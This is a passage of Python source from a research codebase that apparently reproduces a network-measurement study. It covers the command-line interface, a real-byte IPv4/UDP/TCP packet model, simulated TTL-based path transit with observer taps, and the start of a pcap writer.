    run.add_argument("--inject-worker-kill", type=int, default=None,
                     metavar="SHARD",
                     help="fault injection: SIGKILL shard SHARD's worker "
                          "after Phase I, forcing respawn-and-replay "
                          "(workers > 1; testing/CI only)")
    run.add_argument("--fault-seed", type=int, default=0,
                     help="seed for the fault-injection plan (default 0)")
    run.add_argument("--fault-loss", type=float, default=0.0, metavar="RATE",
                     help="per-link decoy packet loss probability")
    run.add_argument("--fault-churn", type=float, default=0.0, metavar="RATE",
                     help="fraction of VPs given a disconnect window")
    run.add_argument("--fault-outages", type=int, default=0, metavar="N",
                     help="injected outage windows per honeypot site")
    run.add_argument("--fault-log-delay", type=float, default=0.0,
                     metavar="RATE", help="probability a log append lands late")
    run.add_argument("--fault-log-dup", type=float, default=0.0,
                     metavar="RATE",
                     help="probability a log append is duplicated")
    run.add_argument("--doh-adoption", type=float, default=0.0,
                     metavar="SHARE",
                     help="fraction of DNS decoys tunneled over DoH "
                          "(constant-SNI TLS to the resolver frontend); "
                          "enables the mitigation-vs-observer matrix")
    run.add_argument("--ciphertext-observers", type=float, default=0.0,
                     metavar="SHARE",
                     help="deployment share of ciphertext-metadata "
                          "observers on high-centrality hops; enables "
                          "the mitigation-vs-observer matrix")
    run.add_argument("--export", metavar="DIR",
                     help="also export the result bundle to DIR")
    run.add_argument("--telemetry", metavar="DIR",
                     help="collect run telemetry and write telemetry.json "
                          "+ spans.jsonl to DIR (render later with "
                          "'repro telemetry DIR')")
    run.add_argument("--profile", action="store_true",
                     help="print a per-stage cumulative-time profile "
                          "(derived from telemetry spans) to stderr after "
                          "the run")
    run.add_argument("--output", metavar="FILE",
                     help="write the report to FILE instead of stdout")

    report = commands.add_parser("report",
                                 help="re-render the report from a bundle")
    report.add_argument("bundle", help="directory written by 'run --export'")
    report.add_argument("--engine", choices=("auto", "batch", "streaming"),
                        default="auto",
                        help="'streaming' renders from the bundle's "
                             "analysis.json (O(merge), no re-correlation); "
                             "'batch' replays the full log; 'auto' (default) "
                             "uses streaming when analysis.json exists. "
                             "Both engines produce byte-identical reports.")
    report.add_argument("--output", metavar="FILE")
    report.add_argument("--title",
                        help="override the report title (default names the "
                             "bundle; pass the serve default to byte-compare "
                             "against a live-served report.txt)")

    serve = commands.add_parser(
        "serve", help="run the always-on measurement daemon")
    serve.add_argument("--host", default="127.0.0.1",
                       help="bind address for both servers (default loopback)")
    serve.add_argument("--port", type=int, default=0, metavar="PORT",
                       help="HTTP API port (default 0 = ephemeral)")
    serve.add_argument("--feed-port", type=int, default=0, metavar="PORT",
                       help="record-feed socket port (default 0 = ephemeral)")
    serve.add_argument("--checkpoint", metavar="DIR",
                       help="continuously checkpoint campaign state to DIR "
                            "and restore from it on startup")
    serve.add_argument("--watermark-records", type=int, default=256,
                       metavar="N",
                       help="flush a campaign after N un-checkpointed log "
                            "records (default 256)")
    serve.add_argument("--watermark-seconds", type=float, default=5.0,
                       metavar="S",
                       help="flush a campaign whose un-checkpointed tail is "
                            "older than S seconds (default 5)")
    serve.add_argument("--ready-file", metavar="FILE",
                       help="write bound ports + pid to FILE once listening "
                            "(for harnesses using ephemeral ports)")

    feed = commands.add_parser(
        "feed", help="replay an exported bundle into a running daemon")
    feed.add_argument("bundle", help="directory written by 'run --export'")
    feed.add_argument("--campaign", default="default", metavar="ID",
                      help="campaign id to register/ingest as (default "
                           "'default')")
    feed.add_argument("--host", default="127.0.0.1")
    feed.add_argument("--port", type=int, required=True, metavar="PORT",
                      help="the daemon's feed port (see its ready file)")
    feed.add_argument("--batch-size", type=int, default=500, metavar="N",
                      help="records per feed batch (default 500)")

    scenario = commands.add_parser(
        "scenario", help="declarative scenarios: library, compiler, fuzzer")
    scenario_commands = scenario.add_subparsers(dest="scenario_command",
                                                required=True)
    scenario_commands.add_parser(
        "list", help="list the named scenario library")
    show = scenario_commands.add_parser(
        "show", help="print a scenario's canonical JSON")
    show.add_argument("scenario",
                      help="library name or path to a scenario JSON file")
    compile_cmd = scenario_commands.add_parser(
        "compile", help="lower a scenario to its ExperimentConfig")
    compile_cmd.add_argument("scenario",
                             help="library name or path to a scenario "
                                  "JSON file")
    compile_cmd.add_argument("--trace", action="store_true",
                             help="also print each config field's "
                                  "provenance (the spec field or pinned "
                                  "default it came from)")
    scenario_run = scenario_commands.add_parser(
        "run", help="run a full campaign from a scenario")
    scenario_run.add_argument("scenario",
                              help="library name or path to a scenario "
                                   "JSON file")
    scenario_run.add_argument("--workers", type=int, default=None, metavar="N",
                              help="override the scenario's engine.workers")
    scenario_run.add_argument("--digest", metavar="FILE",
                              help="write the run's result digest to FILE")
    scenario_run.add_argument("--export", metavar="DIR",
                              help="also export the result bundle to DIR")
    scenario_run.add_argument("--output", metavar="FILE",
                              help="write the report to FILE instead of "
                                   "stdout")
    fuzz = scenario_commands.add_parser(
        "fuzz", help="generate random scenarios and check every pipeline "
                     "invariant against them")
    fuzz.add_argument("--samples", type=int, default=20, metavar="N",
                      help="number of generated scenarios (default 20)")
    fuzz.add_argument("--seed", type=int, default=7,
                      help="fuzz population seed; the same seed always "
                           "generates the same scenarios (default 7)")
    fuzz.add_argument("--workers", type=int, default=2, metavar="N",
                      help="worker count for the sharded leg of the "
                           "serial-equals-sharded invariant (default 2)")
    fuzz.add_argument("--json", metavar="FILE",
                      help="write the machine-readable fuzz report to FILE")
    fuzz.add_argument("--stop-on-failure", action="store_true",
                      help="stop at the first failing sample instead of "
                           "completing the run")
    fuzz.add_argument("--no-shrink", action="store_true",
                      help="skip shrinking failing samples to their "
                           "minimal field sets")

    platform = commands.add_parser("platform",
                                   help="summarize the VPN platform (Table 1)")
    platform.add_argument("--seed", type=int, default=20240301)
    platform.add_argument("--vp-scale", type=float, default=1.0)

    telemetry = commands.add_parser(
        "telemetry", help="render a telemetry capture as tables")
    telemetry.add_argument(
        "capture",
        help="directory (or telemetry.json file) written by 'run --telemetry'")
    telemetry.add_argument("--output", metavar="FILE")
    return parser


def _emit(text: str, output: Optional[str]) -> None:
    if output:
        pathlib.Path(output).write_text(text)
        print(f"report written to {output}")
    else:
        print(text)


def _command_run(args: argparse.Namespace) -> int:
    if args.workers < 1:
        print("--workers must be >= 1", file=sys.stderr)
        return 2
    if args.inject_worker_kill is not None and args.workers < 2 and not args.resume:
        print("--inject-worker-kill requires --workers >= 2", file=sys.stderr)
        return 2
    if args.resume:
        from repro.core.shard import run_sharded
        result = run_sharded(resume_dir=args.resume)
    else:
        if args.tiny:
            config = ExperimentConfig.tiny(seed=args.seed)
            config.workers = args.workers
        else:
            config = ExperimentConfig(
                seed=args.seed,
                vp_scale=args.vp_scale,
                web_destination_count=args.web_destinations,
                workers=args.workers,
            )
        config.telemetry = bool(args.telemetry)
        config.doh_adoption = args.doh_adoption
        config.ciphertext_observer_share = args.ciphertext_observers
        fault_knobs = (args.fault_loss, args.fault_churn, args.fault_outages,
                       args.fault_log_delay, args.fault_log_dup)
        if any(knob for knob in fault_knobs):
            from repro.faults import FaultSpec
            config.faults = FaultSpec(
                seed=args.fault_seed,
                link_loss_rate=args.fault_loss,
                vp_churn_rate=args.fault_churn,
                honeypot_outages_per_site=args.fault_outages,
                log_delay_rate=args.fault_log_delay,
                log_duplicate_rate=args.fault_log_dup,
            )
        try:
            config.validate()
        except ConfigError as error:
            for problem in error.problems:
                print(f"invalid configuration: {problem}", file=sys.stderr)
            return 2
        supervision = None
        if args.inject_worker_kill is not None:
            from repro.core.shard import SupervisorPolicy
            supervision = SupervisorPolicy(
                kill_after_phase1=args.inject_worker_kill)
        result = Experiment(config).run(checkpoint_dir=args.checkpoint,
                                        supervision=supervision)
    if args.digest:
        from repro.core.shard import result_digest
        digest_path = pathlib.Path(args.digest)
        digest_path.parent.mkdir(parents=True, exist_ok=True)
        digest_path.write_text(result_digest(result) + "\n")
        print(f"digest written to {args.digest}", file=sys.stderr)
    if args.export:
        bundle = export_result(result, args.export)
        print(f"bundle exported to {bundle}", file=sys.stderr)
    if args.telemetry:
        capture = write_telemetry(result.telemetry, args.telemetry)
        print(f"telemetry written to {capture}", file=sys.stderr)
    if args.profile:
        from repro.telemetry.render import render_profile
        print(render_profile(result.telemetry.spans), file=sys.stderr)
    _emit(full_report(result, include_validation=True), args.output)
    return 0


def _command_report(args: argparse.Namespace) -> int:
    title = args.title or f"Report (reloaded from {args.bundle})"
    engine = args.engine
    if engine in ("auto", "streaming"):
        from repro.core.persist import load_analysis_state
        state = load_analysis_state(args.bundle)
        if state is not None:
            _emit(full_report_from_state(state, title=title), args.output)
            return 0
        if engine == "streaming":
            print(f"{args.bundle} has no analysis.json; re-export the "
                  "bundle or use --engine batch", file=sys.stderr)
            return 2
    bundle = load_bundle(args.bundle)
    _emit(full_report(bundle, title=title), args.output)
    return 0


def _command_serve(args: argparse.Namespace) -> int:
    from repro.serve.daemon import ServeConfig, ServeDaemon

    daemon = ServeDaemon(ServeConfig(
        host=args.host,
        http_port=args.port,
        feed_port=args.feed_port,
        checkpoint_dir=args.checkpoint,
        watermark_records=args.watermark_records,
        watermark_seconds=args.watermark_seconds,
        ready_file=args.ready_file,
    ))
    print(f"repro serve: http on {args.host}:{daemon.http.port}, "
          f"feed on {args.host}:{daemon.feed.port}"
          + (f", checkpoints in {args.checkpoint}" if args.checkpoint else ""),
          file=sys.stderr)
    daemon.run_forever()
    return 0


def _command_feed(args: argparse.Namespace) -> int:
    from repro.serve.feed import FeedClient, FeedError, feed_batches_from_bundle

    try:
        with FeedClient(host=args.host, port=args.port) as client:
            ack = None
            batches = 0
            for batch in feed_batches_from_bundle(
                    args.bundle, args.campaign, batch_size=args.batch_size):
                ack = client.send(batch)
                batches += 1
    except (FeedError, OSError) as error:
        print(f"feed failed: {error}", file=sys.stderr)
        return 2
    summary = (f"fed {batches} batches as campaign {args.campaign!r}"
               + (f"; daemon at seq {ack['seq']} with "
                  f"{ack['log_records']} log records" if ack
                  and "log_records" in ack else ""))
    print(summary, file=sys.stderr)
    return 0


def _command_scenario(args: argparse.Namespace) -> int:
    from repro.scenario import ScenarioError

    handlers = {
        "list": _scenario_list,
        "show": _scenario_show,
        "compile": _scenario_compile,
        "run": _scenario_run,
        "fuzz": _scenario_fuzz,
    }
    try:
        return handlers[args.scenario_command](args)
    except ScenarioError as error:
        for problem in error.problems:
            print(f"scenario error: {problem}", file=sys.stderr)
        return 2


def _scenario_list(args: argparse.Namespace) -> int:
    from repro.scenario import load_library

    rows = [(name, spec.digest()[:12], spec.description)
            for name, spec in sorted(load_library().items())]
    print(render_table(("scenario", "digest", "description"), rows,
                       title="Named scenario library"))
    return 0


def _scenario_show(args: argparse.Namespace) -> int:
    from repro.scenario import resolve_scenario, serialize_scenario

    print(serialize_scenario(resolve_scenario(args.scenario)), end="")
    return 0


def _scenario_compile(args: argparse.Namespace) -> int:
    import dataclasses

    from repro.scenario import compile_with_trace, resolve_scenario

    spec = resolve_scenario(args.scenario)
    config, trace = compile_with_trace(spec)
    print(f"scenario {spec.name!r} (digest {spec.digest()[:12]}) "
          "compiles to:")
    for config_field in sorted(f.name for f in dataclasses.fields(config)):
        line = f"  {config_field} = {getattr(config, config_field)!r}"
        if args.trace:
            line += f"    <- {trace[config_field]}"
        print(line)
    return 0


def _scenario_run(args: argparse.Namespace) -> int:
    from repro.scenario import compile_scenario, resolve_scenario

    spec = resolve_scenario(args.scenario)
    config = compile_scenario(spec)
    if args.workers is not None:
        config.workers = args.workers
        try:
            config.validate()
        except ConfigError as error:
            for problem in error.problems:
                print(f"invalid configuration: {problem}", file=sys.stderr)
            return 2
    print(f"running scenario {spec.name!r} "
          f"(digest {spec.digest()[:12]}, workers={config.workers})",
          file=sys.stderr)
    result = Experiment(config).run()
    if args.digest:
        from repro.core.shard import result_digest
        digest_path = pathlib.Path(args.digest)
        digest_path.parent.mkdir(parents=True, exist_ok=True)
        digest_path.write_text(result_digest(result) + "\n")
        print(f"digest written to {args.digest}", file=sys.stderr)
    if args.export:
        bundle = export_result(result, args.export)
        print(f"bundle exported to {bundle}", file=sys.stderr)
    _emit(full_report(result, include_validation=True), args.output)
    return 0


def _scenario_fuzz(args: argparse.Namespace) -> int:
    from repro.scenario import run_fuzz
    from repro.scenario.fuzz import check_invariants, shrink

    if args.samples < 1 or args.seed < 0 or args.workers < 1:
        print("fuzz needs --samples >= 1, --seed >= 0, --workers >= 1",
              file=sys.stderr)
        return 2

    def progress(sample):
        verdict = "ok" if sample.ok else "FAIL"
        print(f"sample {sample.index:3d} [{verdict}] "
              f"spec={sample.spec_digest[:12]} "
              f"result={str(sample.serial_digest)[:12]} "
              f"({sample.scenario.name})", file=sys.stderr)
        for failure in [] if sample.ok else sorted(
                k for k, v in sample.checks.items() if v.startswith("FAIL")):
            print(f"    {failure}: {sample.checks[failure]}", file=sys.stderr)

    report = run_fuzz(args.samples, args.seed, workers=args.workers,
                      progress=progress,
                      stop_on_failure=args.stop_on_failure)
    if args.json:
        json_path = pathlib.Path(args.json)
        json_path.parent.mkdir(parents=True, exist_ok=True)
        json_path.write_text(report.to_json())
        print(f"fuzz report written to {args.json}", file=sys.stderr)
    failing = [sample for sample in report.samples if not sample.ok]
    print(f"fuzz seed {report.seed}: {len(report.samples)} samples, "
          f"{len(failing)} failing, run digest {report.run_digest()}")
    if not failing:
        return 0
    if not args.no_shrink:
        worst = failing[0]
        print(f"shrinking sample {worst.index} "
              f"(spec {worst.spec_digest[:12]})...", file=sys.stderr)
        shrunk, minimal_fields = shrink(
            worst.scenario,
            lambda candidate: not check_invariants(
                candidate, workers=args.workers).ok)
        print(f"sample {worst.index} minimal failing field set: "
              + (", ".join(minimal_fields) or "(empty: fails at defaults)"))
        for check, verdict in sorted(
                check_invariants(shrunk, workers=args.workers).checks.items()):
            if verdict.startswith("FAIL"):
                print(f"  {check}: {verdict}")
    return 1


def _command_platform(args: argparse.Namespace) -> int:
    platform = VpnPlatform(RandomRouter(args.seed), vp_scale=args.vp_scale)
    print(render_table(
        ("segment", "providers", "VPs", "ASes", "locations"),
        [(row.label, row.providers, row.vps, row.ases, row.countries)
         for row in platform.summary()],
        title="VPN measurement platform (cf. Table 1)",
    ))
    return 0


def _command_telemetry(args: argparse.Namespace) -> int:
    try:
        telemetry = load_telemetry(args.capture)
    except FileNotFoundError as error:
        print(f"no telemetry capture at {args.capture}: {error}",
              file=sys.stderr)
        return 2
    _emit(render_telemetry(telemetry), args.output)
    return 0


def main(argv: Optional[List[str]] = None) -> int:
    args = _build_parser().parse_args(argv)
    handlers = {
        "run": _command_run,
        "report": _command_report,
        "serve": _command_serve,
        "feed": _command_feed,
        "scenario": _command_scenario,
        "platform": _command_platform,
        "telemetry": _command_telemetry,
    }
    return handlers[args.command](args)


if __name__ == "__main__":
    sys.exit(main())

"""Packet model with genuine IPv4/UDP/TCP header encoding.

Decoys in the paper are real packets whose IP TTL field is varied for
hop-by-hop tracerouting, so this reproduction encodes real headers: a
20-byte IPv4 header with a correct ones-complement checksum, and 8-byte
UDP / 20-byte TCP headers.  Observers and honeypots parse these bytes
rather than peeking at Python objects, keeping the measurement path
honest end to end.
"""

import struct
from dataclasses import dataclass, field, replace
from typing import Optional

from repro.net.addr import ip_from_int, ip_to_int
from repro.net.errors import PacketDecodeError

PROTO_ICMP = 1
PROTO_TCP = 6
PROTO_UDP = 17

_IPV4_FMT = "!BBHHHBBH4s4s"
_UDP_FMT = "!HHHH"
_TCP_FMT = "!HHIIBBHHH"


def checksum16(data: bytes) -> int:
    """RFC 1071 ones-complement checksum over 16-bit words."""
    if len(data) % 2:
        data += b"\x00"
    total = 0
    for (word,) in struct.iter_unpack("!H", data):
        total += word
        total = (total & 0xFFFF) + (total >> 16)
    return (~total) & 0xFFFF


@dataclass(frozen=True)
class IPv4Header:
    """Minimal IPv4 header: the fields the methodology manipulates/reads."""

    src: str
    dst: str
    ttl: int
    protocol: int
    identification: int = 0
    payload_length: int = 0

    def __post_init__(self):
        if not 0 <= self.ttl <= 255:
            raise ValueError(f"TTL out of range: {self.ttl}")
        if not 0 <= self.identification <= 0xFFFF:
            raise ValueError(f"identification out of range: {self.identification}")
        if self.protocol not in (PROTO_ICMP, PROTO_TCP, PROTO_UDP):
            raise ValueError(f"unsupported IP protocol {self.protocol}")

    def encode(self) -> bytes:
        """Serialize to 20 bytes with a valid header checksum."""
        total_length = 20 + self.payload_length
        without_checksum = struct.pack(
            _IPV4_FMT,
            (4 << 4) | 5,  # version 4, IHL 5 words
            0,  # DSCP/ECN
            total_length,
            self.identification,
            0,  # flags/fragment offset
            self.ttl,
            self.protocol,
            0,  # checksum placeholder
            ip_to_int(self.src).to_bytes(4, "big"),
            ip_to_int(self.dst).to_bytes(4, "big"),
        )
        digest = checksum16(without_checksum)
        return without_checksum[:10] + struct.pack("!H", digest) + without_checksum[12:]

    @classmethod
    def decode(cls, data: bytes) -> "IPv4Header":
        """Parse 20 header bytes, verifying version and checksum."""
        if len(data) < 20:
            raise PacketDecodeError(f"IPv4 header needs 20 bytes, got {len(data)}")
        header = data[:20]
        if checksum16(header) != 0:
            raise PacketDecodeError("IPv4 header checksum mismatch")
        (
            version_ihl,
            _dscp,
            total_length,
            identification,
            _frag,
            ttl,
            protocol,
            _checksum,
            src_bytes,
            dst_bytes,
        ) = struct.unpack(_IPV4_FMT, header)
        if version_ihl >> 4 != 4:
            raise PacketDecodeError(f"not an IPv4 packet (version {version_ihl >> 4})")
        if version_ihl & 0x0F != 5:
            raise PacketDecodeError("IP options are not supported")
        return cls(
            src=ip_from_int(int.from_bytes(src_bytes, "big")),
            dst=ip_from_int(int.from_bytes(dst_bytes, "big")),
            ttl=ttl,
            protocol=protocol,
            identification=identification,
            payload_length=total_length - 20,
        )


@dataclass(frozen=True)
class UDPSegment:
    """UDP header plus payload."""

    src_port: int
    dst_port: int
    payload: bytes = b""

    def __post_init__(self):
        for port in (self.src_port, self.dst_port):
            if not 0 <= port <= 0xFFFF:
                raise ValueError(f"port out of range: {port}")

    def encode(self) -> bytes:
        length = 8 + len(self.payload)
        # Checksum left zero (legal for UDP over IPv4); the IP checksum
        # already guards the fields the methodology depends on.
        return struct.pack(_UDP_FMT, self.src_port, self.dst_port, length, 0) + self.payload

    @classmethod
    def decode(cls, data: bytes) -> "UDPSegment":
        if len(data) < 8:
            raise PacketDecodeError(f"UDP header needs 8 bytes, got {len(data)}")
        src_port, dst_port, length, _checksum = struct.unpack(_UDP_FMT, data[:8])
        if length != len(data):
            raise PacketDecodeError(f"UDP length field {length} != segment size {len(data)}")
        return cls(src_port=src_port, dst_port=dst_port, payload=data[8:])


@dataclass(frozen=True)
class TCPSegment:
    """TCP header plus payload (no options; enough for decoy transport)."""

    src_port: int
    dst_port: int
    seq: int = 0
    ack: int = 0
    flags: int = 0
    payload: bytes = b""

    FLAG_FIN = 0x01
    FLAG_SYN = 0x02
    FLAG_RST = 0x04
    FLAG_PSH = 0x08
    FLAG_ACK = 0x10

    def __post_init__(self):
        for port in (self.src_port, self.dst_port):
            if not 0 <= port <= 0xFFFF:
                raise ValueError(f"port out of range: {port}")
        for counter in (self.seq, self.ack):
            if not 0 <= counter <= 0xFFFFFFFF:
                raise ValueError(f"sequence number out of range: {counter}")

    def encode(self) -> bytes:
        data_offset = 5 << 4  # 20-byte header, no options
        return (
            struct.pack(
                _TCP_FMT,
                self.src_port,
                self.dst_port,
                self.seq,
                self.ack,
                data_offset,
                self.flags,
                0xFFFF,  # window
                0,  # checksum (not modelled)
                0,  # urgent pointer
            )
            + self.payload
        )

    @classmethod
    def decode(cls, data: bytes) -> "TCPSegment":
        if len(data) < 20:
            raise PacketDecodeError(f"TCP header needs 20 bytes, got {len(data)}")
        (
            src_port,
            dst_port,
            seq,
            ack,
            data_offset,
            flags,
            _window,
            _checksum,
            _urgent,
        ) = struct.unpack(_TCP_FMT, data[:20])
        header_len = (data_offset >> 4) * 4
        if header_len < 20 or header_len > len(data):
            raise PacketDecodeError(f"bad TCP data offset {data_offset >> 4}")
        return cls(
            src_port=src_port,
            dst_port=dst_port,
            seq=seq,
            ack=ack,
            flags=flags,
            payload=data[header_len:],
        )


@dataclass(frozen=True)
class Packet:
    """A full simulated packet: IPv4 header plus transport segment."""

    ip: IPv4Header
    transport: object  # UDPSegment | TCPSegment

    @classmethod
    def udp(cls, src: str, dst: str, ttl: int, src_port: int, dst_port: int,
            payload: bytes, identification: int = 0) -> "Packet":
        segment = UDPSegment(src_port=src_port, dst_port=dst_port, payload=payload)
        header = IPv4Header(
            src=src, dst=dst, ttl=ttl, protocol=PROTO_UDP,
            identification=identification, payload_length=len(segment.encode()),
        )
        return cls(ip=header, transport=segment)

    @classmethod
    def tcp(cls, src: str, dst: str, ttl: int, src_port: int, dst_port: int,
            payload: bytes, flags: int = TCPSegment.FLAG_PSH | TCPSegment.FLAG_ACK,
            identification: int = 0) -> "Packet":
        segment = TCPSegment(src_port=src_port, dst_port=dst_port,
                             flags=flags, payload=payload)
        header = IPv4Header(
            src=src, dst=dst, ttl=ttl, protocol=PROTO_TCP,
            identification=identification, payload_length=len(segment.encode()),
        )
        return cls(ip=header, transport=segment)

    @property
    def payload(self) -> bytes:
        """Application bytes carried by the transport segment."""
        return self.transport.payload

    def with_ttl(self, ttl: int) -> "Packet":
        """Copy of this packet with a different initial TTL (traceroute)."""
        return Packet(ip=replace(self.ip, ttl=ttl), transport=self.transport)

    def decrement_ttl(self) -> "Packet":
        """Copy with TTL reduced by one, as a router would forward it."""
        if self.ip.ttl <= 0:
            raise ValueError("cannot decrement TTL below zero")
        return Packet(ip=replace(self.ip, ttl=self.ip.ttl - 1), transport=self.transport)

    def encode(self) -> bytes:
        """Full on-the-wire bytes: IP header followed by the segment."""
        return self.ip.encode() + self.transport.encode()

    @classmethod
    def decode(cls, data: bytes) -> "Packet":
        header = IPv4Header.decode(data)
        body = data[20:]
        if header.payload_length != len(body):
            raise PacketDecodeError(
                f"IP total length disagrees with capture: {header.payload_length} != {len(body)}"
            )
        if header.protocol == PROTO_UDP:
            return cls(ip=header, transport=UDPSegment.decode(body))
        if header.protocol == PROTO_TCP:
            return cls(ip=header, transport=TCPSegment.decode(body))
        raise PacketDecodeError(f"cannot decode transport protocol {header.protocol}")

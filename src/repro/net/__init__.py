"""Simulated IP network substrate.

This package models exactly the slice of the Internet the paper's
methodology relies on: IPv4 packets with a real header layout (so the TTL
field behaves like the genuine article), UDP/TCP encapsulation, per-hop TTL
decrement with ICMP Time-Exceeded generation, and taps through which
on-path observers sniff transiting packets.
"""

from repro.net.addr import (
    InvalidAddressError,
    ip_from_int,
    ip_to_int,
    is_valid_ipv4,
    same_slash24,
    slash24,
)
from repro.net.errors import NetError, PacketDecodeError, TransitError
from repro.net.icmp import IcmpTimeExceeded
from repro.net.packet import IPv4Header, Packet, TCPSegment, UDPSegment, checksum16
from repro.net.path import Hop, HopTap, Path, TransitOutcome, TransitResult

__all__ = [
    "ip_to_int",
    "ip_from_int",
    "is_valid_ipv4",
    "same_slash24",
    "slash24",
    "InvalidAddressError",
    "checksum16",
    "IPv4Header",
    "UDPSegment",
    "TCPSegment",
    "Packet",
    "IcmpTimeExceeded",
    "Hop",
    "HopTap",
    "Path",
    "TransitOutcome",
    "TransitResult",
    "NetError",
    "PacketDecodeError",
    "TransitError",
]

"""Exception hierarchy for the network substrate."""


class NetError(Exception):
    """Base class for all simulated-network errors."""


class PacketDecodeError(NetError):
    """Raised when bytes on the wire do not parse as the expected layer."""


class TransitError(NetError):
    """Raised when a packet cannot be forwarded (e.g. malformed path)."""

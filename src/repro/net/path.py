"""Client-server paths and TTL-faithful packet transit.

Topology in this reproduction is path-centric: the builder precomputes the
hop list between each vantage point and destination, and this module walks
packets along it with real TTL semantics.  With ``n`` hops (the destination
being hop ``n``):

* a packet with initial TTL ``t`` is seen by hops ``1..min(t, n)``;
* it expires at hop ``t`` when ``t < n``, producing an ICMP Time-Exceeded
  from that hop (if the hop responds to expiry at all);
* it is delivered when ``t >= n``.

This is exactly the property Phase II of the paper exploits: the smallest
initial TTL at which a decoy still triggers unsolicited requests equals the
observer's hop distance from the VP.
"""

import enum
from dataclasses import dataclass, field
from typing import Callable, List, Optional, Sequence, Tuple

from repro.net.errors import TransitError
from repro.net.icmp import IcmpTimeExceeded
from repro.net.packet import Packet

# Signature of a sniffer callback: (hop position 1-indexed, hop, packet).
HopTap = Callable[[int, "Hop", Packet], None]


@dataclass(frozen=True)
class Hop:
    """One device on a client-server path."""

    address: str
    asn: int
    country: str
    is_destination: bool = False
    responds_icmp: bool = True
    """Routers that silently drop expired packets (a traceroute limitation
    the paper acknowledges) set this to False."""
    open_ports: Tuple[int, ...] = ()
    """TCP ports answering the post-hoc observer port scan (Section 5.2)."""

    def __str__(self) -> str:
        role = "dst" if self.is_destination else "hop"
        return f"{role}:{self.address}(AS{self.asn},{self.country})"


class TransitOutcome(enum.Enum):
    DELIVERED = "delivered"
    EXPIRED = "expired"
    LOST = "lost"
    """Dropped in transit by an injected link fault: no ICMP, no delivery
    (see :mod:`repro.faults`)."""


@dataclass
class TransitResult:
    """What happened to one packet sent down a path."""

    outcome: TransitOutcome
    final_position: int
    """1-indexed hop where the packet stopped (destination or expiry hop).
    For LOST transits, the last hop that saw the packet — 0 when it died
    on the access link before the first hop."""
    icmp: Optional[IcmpTimeExceeded]
    """Time-Exceeded returned to the sender, when the expiry hop responds."""
    observed_by: List[Tuple[int, Hop]] = field(default_factory=list)
    """Every (position, hop) that processed the packet, in path order."""

    @property
    def delivered(self) -> bool:
        return self.outcome is TransitOutcome.DELIVERED


class Path:
    """An ordered hop list from a vantage point to a destination."""

    def __init__(self, hops: Sequence[Hop]):
        hops = tuple(hops)
        if not hops:
            raise TransitError("a path needs at least one hop (the destination)")
        if not hops[-1].is_destination:
            raise TransitError("the final hop of a path must be the destination")
        if any(hop.is_destination for hop in hops[:-1]):
            raise TransitError("only the final hop may be the destination")
        self.hops = hops
        self._taps: List[Tuple[int, HopTap]] = []

    def __len__(self) -> int:
        return len(self.hops)

    @property
    def destination(self) -> Hop:
        return self.hops[-1]

    @property
    def length(self) -> int:
        """Hop count, destination included."""
        return len(self.hops)

    def hop_at(self, position: int) -> Hop:
        """The hop ``position`` hops from the VP (1-indexed)."""
        if not 1 <= position <= len(self.hops):
            raise TransitError(f"position {position} outside path of length {len(self.hops)}")
        return self.hops[position - 1]

    def position_of(self, address: str) -> Optional[int]:
        """1-indexed position of the hop with ``address``, or None."""
        for position, hop in enumerate(self.hops, start=1):
            if hop.address == address:
                return position
        return None

    def add_tap(self, position: int, tap: HopTap) -> None:
        """Attach a sniffer at ``position``; it sees every packet that
        reaches that hop (regardless of whether the packet expires there).

        Idempotent: re-attaching a tap already present at that position
        is a no-op (bound methods compare equal per instance+function).
        Campaigns with a bounded path-info cache re-run attachment when a
        pair is rebuilt after eviction while the underlying topology path
        — taps included — survived; without the guard every rebuild would
        duplicate each sniffer's capture.
        """
        if not 1 <= position <= len(self.hops):
            raise TransitError(f"tap position {position} outside path of length {len(self.hops)}")
        if (position, tap) in self._taps:
            return
        self._taps.append((position, tap))

    def transit(self, packet: Packet,
                loss_at: Optional[int] = None) -> TransitResult:
        """Send ``packet`` down the path and report its fate.

        ``loss_at`` injects a link fault: the packet is dropped on the
        link *toward* hop ``loss_at`` (1-indexed), so hops before it
        still process the packet — and any sniffers tapped there still
        capture it — but no ICMP is generated and nothing is delivered.
        A ``loss_at`` beyond where the packet naturally stops is moot.
        """
        initial_ttl = packet.ip.ttl
        if initial_ttl < 1:
            raise TransitError(f"packet needs TTL >= 1 to leave the VP, got {initial_ttl}")
        reach = min(initial_ttl, len(self.hops))
        observed: List[Tuple[int, Hop]] = []
        current = packet
        for position in range(1, reach + 1):
            if loss_at is not None and position == loss_at:
                return TransitResult(
                    outcome=TransitOutcome.LOST,
                    final_position=position - 1,
                    icmp=None,
                    observed_by=observed,
                )
            hop = self.hops[position - 1]
            observed.append((position, hop))
            for tap_position, tap in self._taps:
                if tap_position == position:
                    tap(position, hop, current)
            if position < reach:
                current = current.decrement_ttl()
        final_hop = self.hops[reach - 1]
        if reach == len(self.hops) and initial_ttl >= len(self.hops):
            return TransitResult(
                outcome=TransitOutcome.DELIVERED,
                final_position=reach,
                icmp=None,
                observed_by=observed,
            )
        icmp = (
            IcmpTimeExceeded.for_packet(final_hop.address, current)
            if final_hop.responds_icmp
            else None
        )
        return TransitResult(
            outcome=TransitOutcome.EXPIRED,
            final_position=reach,
            icmp=icmp,
            observed_by=observed,
        )

    def __repr__(self) -> str:
        return f"Path({' -> '.join(hop.address for hop in self.hops)})"

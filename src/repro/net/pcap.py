"""libpcap capture files for simulated traffic.

Every packet in this reproduction is real bytes, so captures can be
written in the standard pcap format (LINKTYPE_RAW: each record is a raw
IPv4 packet) and opened in Wireshark/tcpdump for inspection — handy when
debugging observer behaviour or demonstrating what a DPI box actually
sees on the wire.

The format is the classic 24-byte global header plus 16-byte per-record
headers (https://wiki.wireshark.org/Development/LibpcapFileFormat).
"""

import struct
from dataclasses import dataclass
from typing import BinaryIO, Iterator, List, Tuple, Union

from repro.net.packet import Packet

PCAP_MAGIC = 0xA1B2C3D4
PCAP_VERSION = (2, 4)
LINKTYPE_RAW = 101  # raw IP; no link-layer header
_GLOBAL_HEADER_FMT = "<IHHiIII"
_RECORD_HEADER_FMT = "<IIII"
DEFAULT_SNAPLEN = 65_535


class PcapFormatError(ValueError):
    """Raised for files that do not parse as classic pcap."""


@dataclass(frozen=True)
class CapturedPacket:
    """One record read back from a capture."""

    timestamp: float
    data: bytes

    def decode(self) -> Packet:
        return Packet.decode(self.data)


class PcapWriter:
    """Streams packets into a classic pcap file."""

    def __init__(self, stream: BinaryIO, snaplen: int = DEFAULT_SNAPLEN):
        if snaplen < 1:
